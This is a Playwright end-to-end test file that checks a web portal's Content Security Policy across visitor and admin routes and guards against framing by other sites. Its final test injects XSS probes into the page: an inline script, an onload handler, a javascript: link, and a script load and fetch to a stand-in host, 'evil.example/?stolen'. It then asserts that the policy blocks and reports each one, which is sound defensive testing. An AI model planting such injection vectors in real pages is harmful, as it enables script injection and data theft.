import { expect, type Page } from '@playwright/test';
import type { Role } from 'domain/account/account.ts';
import { paths } from 'domain/paths.ts';
import { routeTable, type Access } from '#web/app/route-table.ts';
import { test } from '#tests/e2e/deals/member.ts';
import { goTo } from '#tests/e2e/go-to.ts';
import { db } from '#tests/services.ts';

// tests/e2e/policy.ts fails every test in which a page violates the policy of firebase.json, among them those of photos, maps,
// tables and toasts, of buyers, of originators, and of every section of the admin panel. Here are the routes for a visitor and for an admin,
// who may open the most, and that the policy forbids what it is there for.

/** Every address that a visitor, or a member of that role, may open. */
async function addressesFor(role?: Role): Promise<string[]> {
  const active = await db.collection(paths.deals()).where('status', '==', 'active').limit(1).get();
  const dealId = active.docs[0]?.id ?? '';
  const open = routeTable.filter(({ access }: { access: Access }) => {
    if (typeof access !== 'string') return role !== undefined && access.includes(role);
    return access === 'all' || access === (role === undefined ? 'visitors' : 'members');
  });
  return [...open.map(({ path }) => path.replace(':id', dealId)), '/nowhere'];
}

/**
 * Goes from one address to another, as its links do, each until everything is there that comes when one scrolls. All of them are the
 * same document with the same policy (headers.wide.spec.ts), so that it need not be loaded anew.
 */
async function visit(page: Page, addresses: readonly string[]): Promise<void> {
  /* oxlint-disable no-await-in-loop -- one page, one address after another */
  for (const address of addresses) {
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(() => document.querySelector('h1')?.setAttribute('data-before', ''));
    await goTo(page, address);
    // The page before stays until the next one's file is there.
    await expect(page.locator('h1:not([data-before])'), address).toBeVisible();
    if (address !== '/nowhere') await expect(page, address).not.toHaveTitle(/Page not found|No access/);
    await allOfIt(page);
  }
  /* oxlint-enable no-await-in-loop */
}

/** What comes when one scrolls comes for whoever passes it, not for whoever jumps to the end. */
const allOfIt = (page: Page) =>
  expect(async () => {
    await page.evaluate(async () => {
      for (let y = 0; y < document.body.scrollHeight; y += innerHeight / 2) {
        scrollTo(0, y);
        // oxlint-disable-next-line no-await-in-loop -- one frame after another
        await new Promise((resolve) => void requestAnimationFrame(resolve));
      }
    });
    expect(await page.locator('[class*="Skeleton"], [class*="CircularProgress"], main .first-page').count()).toBe(0);
  }).toPass();

test('a visitor opens every route without a violation', async ({ page }) => {
  await page.goto('/nowhere');
  await visit(page, await addressesFor());
});

test('an admin opens every route without a violation', async ({ member }) => {
  const { page } = await member({ role: 'admin' }, { path: '/nowhere' });
  await visit(page, await addressesFor('admin'));
});

test('what somebody brings into a page neither runs nor reaches another host, and no other site can frame the portal', async ({
  page,
  baseURL,
  violations,
}) => {
  await page.goto('/auth');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const results: string[] = [];
    Object.assign(globalThis, { run: (what: string) => results.push(what) });
    const script = Object.assign(document.createElement('script'), { textContent: 'run("inline script")' });
    const handler = document.createElement('div');
    handler.innerHTML = '<img src="/logo.svg" onload="run(\'event handler\')">';
    const link = Object.assign(document.createElement('a'), { href: 'javascript:run("link")' });
    const foreign = new Promise((resolve) => {
      const element = Object.assign(document.createElement('script'), { src: 'https://evil.example/script.js' });
      element.addEventListener('error', resolve);
      document.head.append(element);
    });
    document.body.append(script, handler, link);
    link.click();
    await handler.querySelector('img')?.decode();
    await foreign;
    await fetch('https://evil.example/?stolen').then(
      () => results.push('request'),
      () => undefined,
    );
    return results;
  });
  expect(ran).toEqual([]);
  const about = (what: RegExp) => violations.filter((text) => what.test(text));
  expect(about(/inline script/)).not.toEqual([]);
  expect(about(/inline event handler/)).not.toEqual([]);
  expect(about(/JavaScript URL/)).not.toEqual([]);
  expect(about(/evil\.example\/script\.js/)).not.toEqual([]);
  expect(about(/evil\.example\/\?stolen/)).not.toEqual([]);
  violations.length = 0;

  // Nor can a page of another site frame the portal.
  await page.route('**/other-site', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/auth"></iframe>` }),
  );
  await page.goto('/other-site');
  await expect.poll(() => violations.join()).toMatch(/frame-ancestors 'none'/);
  expect(page.frames()[1]?.url()).not.toContain('/auth');
  violations.length = 0;
});
